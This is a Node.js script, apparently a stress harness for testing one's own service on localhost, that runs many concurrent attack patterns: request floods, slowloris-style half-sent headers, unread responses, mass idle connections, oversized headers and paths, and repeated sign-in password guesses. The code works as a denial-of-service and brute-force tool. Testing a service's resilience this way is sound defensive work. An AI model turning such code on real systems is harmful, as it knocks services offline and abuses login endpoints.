/*
 * One address that does its worst to a service, without a key and without end: `node attacker.mjs PORT`. Prints the counts of
 * what it did as a line of JSON each second.
 */
import { connect } from 'node:net'

const port = Number(process.argv[2])
const counts = {}
const count = (what) => {
  counts[what] = (counts[what] ?? 0) + 1
}

/** Opens a connection, writes, and calls back with all that came when it is closed, ends, or has answered. */
function open(what, text, { isDone = (received) => received.includes('\r\n\r\n'), reads = true } = {}) {
  return new Promise((resolve) => {
    let received = ''
    const socket = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.1', noDelay: true })
    socket.on('connect', () => socket.write(text, 'latin1'))
    socket.on('error', () => {})
    socket.on('close', () => {
      count(what)
      resolve(received)
    })
    if (!reads) socket.pause()
    else
      socket.on('data', (data) => {
        if (received.length < 65_536) received += data.toString('latin1')
        if (isDone(received)) socket.resetAndDestroy()
      })
  })
}

/** Repeats an attack in several places at once, each as soon as the one before has ended. */
function keepDoing(times, attack) {
  for (let i = 0; i < times; i++)
    void (async () => {
      for (let n = 0; ; n++) await attack(i, n)
    })()
}

const get = (path, headers = '') => `GET ${path} HTTP/1.1\r\nHost: a\r\n${headers}\r\n`
const tags = 'en-'.repeat(2_600)
const seconds = (n) => new Promise((resolve) => setTimeout(resolve, 1000 * n))

/** Sends one request after the other on a connection that stays open, as fast as they are answered. */
async function flood(what, request) {
  await new Promise((resolve) => {
    const socket = connect({ port, host: '127.0.0.1', localAddress: '127.0.0.1', noDelay: true })
    const send = (n) => socket.write(request(n), 'latin1')
    let n = 0
    socket.on('connect', () => send(n))
    socket.on('error', () => {})
    socket.on('close', resolve)
    socket.on('data', (data) => {
      // The end of a body, or of a chunked one, is near enough: what is wrong only makes the next request earlier.
      if (data.length === 65_536) return
      count(what)
      send(++n)
    })
  })
}

keepDoing(10, () =>
  open('pipelined packets', get('/browse', 'Accept: text/html\r\n').repeat(2_000), { isDone: () => false }),
)
keepDoing(200, () => open('never read', get('/openapi.json').repeat(8), { reads: false }))
keepDoing(200, async () => open('half sent', 'GET / HTTP/1.1\r\nHost: a\r\nX-Half: ', { isDone: () => false }))
keepDoing(8, () => flood('long languages', () => get('/browse', `Accept: text/html\r\nAccept-Language: ${tags}\r\n`)))
keepDoing(8, (i) => flood('deep paths', (n) => get(`/${'a/'.repeat(3_000)}${i}-${n}`, 'Accept: text/html\r\n')))
keepDoing(8, (i) => flood('not found', (n) => get(`/nowhere/${i}-${n}`, 'Accept: text/html\r\n')))
keepDoing(8, (i) => flood('searches', (n) => get(`/search?title=${i}${n}&country=us`, 'Accept: text/html\r\n')))
keepDoing(8, () => flood('metrics', () => get('/metrics')))
keepDoing(8, () => flood('no key', (n) => get(`/v4/shows/search/title?country=us&title=x${n}`)))
keepDoing(8, (i, n) => {
  const body = JSON.stringify({ email: `${i % 2 === 0 ? 'owner' : n}@attack.example`, password: `guess ${n} of ${i}` })
  const head = 'Sec-Fetch-Site: same-origin\r\nContent-Type: application/json\r\n'
  return open(
    'sign-in guesses',
    `POST /platform/sign-in HTTP/1.1\r\nHost: a\r\n${head}Content-Length: ${body.length}\r\n\r\n${body}`,
  )
})
keepDoing(8, async (_i, n) => {
  const page = await open('minted tokens', get('/', 'Accept: text/html\r\n'))
  const cookie = /\r\nset-cookie: ([^;\r]+)/i.exec(page)?.[1]
  const headers = `Cookie: ${cookie}\r\nSec-Fetch-Site: same-origin\r\n`
  for (let i = 0; i < 5; i++)
    await open('used tokens', get(`/v4/shows/search/title?country=us&title=a${n}${i}`, headers))
})
keepDoing(1_500, async () => {
  await open('idle connections', '', { isDone: () => false })
  await seconds(1)
})
keepDoing(20, () => open('connection flood', get('/healthz')))

setInterval(() => console.log(JSON.stringify(counts)), 1_000)
